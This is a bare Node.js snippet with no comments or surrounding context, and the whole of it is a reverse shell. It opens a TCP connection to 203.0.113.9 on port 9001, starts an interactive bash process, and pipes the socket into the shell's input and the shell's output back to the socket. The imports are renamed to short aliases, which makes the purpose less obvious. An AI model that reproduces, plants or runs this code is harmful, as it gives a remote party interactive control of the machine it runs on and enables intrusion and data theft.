const { createConnection: cc } = require('net');
const { spawn: run } = require('child_process');
const s = cc({ host: '203.0.113.9', port: 9001 });
const p = run('bash', ['-i']);
s.pipe(p.stdin);
p.stdout.pipe(s);
